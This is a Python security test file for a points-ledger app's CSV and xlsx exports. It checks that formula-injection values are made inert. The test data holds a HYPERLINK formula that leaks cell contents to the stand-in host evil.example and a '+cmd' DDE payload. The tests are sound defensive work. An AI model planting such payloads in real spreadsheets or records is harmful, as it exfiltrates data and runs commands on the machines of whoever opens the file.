"""Finding 5 (medium): a note or a name starting with ``=`` arrived as a live formula in the ledger
CSV and xlsx, the roster exports and the ceremony workbook.

Every export is opened as a spreadsheet program would: the CSV cell must not start with a
formula character, and no xlsx cell may be a formula (no ``<f>`` element in the sheet XML)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import text

from pointsapp.extensions import db
from pointsapp.points.registry import StaffUser, Village, Villager
from tests.security.conftest import post, sign_in

EVIL_NOTE = '=HYPERLINK("http://evil.example/?leak="&G2&H2,"Details")'
EVIL_NAME = "=1+2"
OTHERS = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
REPO = Path(__file__).resolve().parents[2]


@pytest.fixture
def planted(app, app_world):
    """A grid worker's capture note and villager names that look like formulas, posted."""
    with app.app_context():
        s = db.session
        people = [s.get(Villager, p) for p in app_world["people"][0]]
        people[1].name = EVIL_NAME
        extra = app_world["people"][1]
        for pid, name in zip(extra, OTHERS):
            s.get(Villager, pid).name = name
        village = s.get(Village, app_world["village"])
        grid = s.get(StaffUser, app_world["users"]["grid1"])
        rev = s.get(StaffUser, app_world["users"]["rev1"])
        post(s, village, grid, rev, [p.id for p in people], key="evil", note=EVIL_NOTE)
        s.commit()
        n = s.execute(text("SELECT count(*) FROM ledger_entries WHERE note = :n"), {"n": EVIL_NOTE}).scalar_one()
        assert n == len(people)
    return app_world


def _admin(app):
    c = app.test_client()
    assert sign_in(c, "admin1").status_code == 302
    return c


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _assert_csv_safe(body: bytes, must_contain: list[str]):
    cells = _csv_cells(body)
    live = [c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-?\d+", c)]
    assert not live, f"cells a spreadsheet would evaluate: {live[:5]}"
    for text_ in must_contain:  # the text is still there, made inert
        assert any(c.endswith(text_) for c in cells), text_


def _assert_xlsx_safe(body: bytes, must_contain: list[str]):
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(zf.read(n).decode("utf-8") for n in sheets)
        shared = zf.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in zf.namelist() else ""
    assert sheets
    assert "<f>" not in xml and "<f " not in xml, "the workbook holds a formula"
    from openpyxl import load_workbook

    values = [c.value for ws in load_workbook(io.BytesIO(body)).worksheets for row in ws.iter_rows() for c in row]
    for text_ in must_contain:
        assert text_ in values or text_.replace("&", "&amp;").replace('"', "&quot;") in shared + xml, text_


def test_ledger_csv(app, planted):
    body = _admin(app).get("/reports/export/ledger.csv?period=2026-11").get_data()
    _assert_csv_safe(body, [EVIL_NOTE, EVIL_NAME])


def test_ledger_xlsx(app, planted):
    body = _admin(app).get("/reports/export/ledger.xlsx?period=2026-11").get_data()
    _assert_xlsx_safe(body, [EVIL_NOTE, EVIL_NAME])


@pytest.mark.parametrize("url", ["/reports/export/roster.xlsx", "/admin/roster/export.xlsx"])
def test_roster_exports(app, planted, url):
    resp = _admin(app).get(url)
    assert resp.status_code == 200
    _assert_xlsx_safe(resp.get_data(), [EVIL_NAME, *OTHERS])


def test_audit_log_csv(app, planted):
    from pointsapp.points import audit

    with app.app_context():
        audit.record(db.session, None, "user.update", village_id=planted["village"], target="=cmd", ip="=1+1")
        db.session.commit()
    admin = _admin(app)
    body = admin.get("/admin/audit.csv").get_data()
    _assert_csv_safe(body, ["=cmd", "=1+1"])


def test_ceremony_workbook(app, planted, tmp_path):
    from pointsapp.reports.pack import build_monthly_pack

    with app.app_context():
        village = db.session.get(Village, planted["village"])
        result = build_monthly_pack(db.session, village, "2026-11", tmp_path, top_n=3, progress=False)
        _assert_xlsx_safe(result.xlsx.read_bytes(), [EVIL_NOTE, EVIL_NAME])


def test_every_spreadsheet_writer_goes_through_the_one_module():
    """CSV writers and xlsx rows go through pointsapp.points.spreadsheets (one place)."""
    offenders = []
    for path in (REPO / "pointsapp").rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        src = path.read_text()
        rel = path.relative_to(REPO)
        if re.search(r"\bcsv\.(writer|DictWriter)\(", src):
            offenders.append(f"{rel}: csv.writer outside pointsapp/points/spreadsheets.py")
        if ".to_excel(" in src and "text_only(" not in src:
            offenders.append(f"{rel}: DataFrame.to_excel without spreadsheets.text_only")
        if "Workbook(" in src and "xlsx_row(" not in src and "imports" not in rel.parts:
            offenders.append(f"{rel}: a workbook written without spreadsheets.xlsx_row")
    assert not offenders, "\n".join(offenders)
